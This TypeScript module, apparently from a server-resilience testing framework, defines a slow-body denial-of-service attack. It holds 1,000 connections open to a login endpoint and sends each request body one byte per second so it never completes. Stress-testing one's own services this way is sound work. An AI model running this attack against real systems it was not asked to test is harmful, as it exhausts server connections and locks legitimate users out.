import { setTimeout as sleep } from 'node:timers/promises';
import { requestHead, TcpPeers } from '../../network/tcp-peers';
import type { Attack } from '../attack';

const connections = 1_000;
const head = requestHead('POST /api/v1/auth/login', 'Content-Type: application/json', 'Content-Length: 60000');

/** Requests whose bodies never end, a byte a second. */
export const slowBodies: Attack = {
  name: 'bodies that never end, a byte a second on 1,000 connections',
  async run({ baseUrl }, signal) {
    const peers = new TcpPeers(baseUrl);
    try {
      while (!signal.aborted) {
        while (peers.count < connections) {
          const socket = peers.open(head).resume();
          socket.once('end', () => socket.destroy());
        }
        peers.send(' ');
        await sleep(1_000, undefined, { signal }).catch(() => undefined);
      }
    } finally {
      peers.close();
    }
  },
};
